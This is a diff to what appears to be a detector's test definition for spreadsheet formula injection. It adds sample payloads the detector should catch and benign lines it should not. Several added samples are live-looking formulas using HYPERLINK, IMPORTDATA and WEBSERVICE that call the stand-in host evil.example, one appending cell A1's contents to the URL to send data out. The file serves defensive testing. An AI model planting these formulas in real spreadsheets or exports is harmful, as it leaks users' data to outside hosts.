@@ -43,6 +43,9 @@ export const formulaInjection = defineAttack({
       '@INFO("directory")',
       '=CELL(A1)',
       '\uff1dHYPERLINK("http://evil.example")',
+      '="a"&HYPERLINK("http://evil.example/?"&A1)',
+      '={1;2}&Sheet1!A1:B2&IMPORTDATA("http://evil.example")',
+      '=TRUE+WEBSERVICE("http://evil.example")',
     ],
     misses: [
       '=',
@@ -67,6 +70,8 @@ export const formulaInjection = defineAttack({
       '-Image(1)',
       '@Register()\nclass Orders {}',
       '+CALL(555) 0100',
+      '= see HYPERLINK() in the manual',
+      '- cmd | powershell, whichever you like!',
     ],
   },
 });
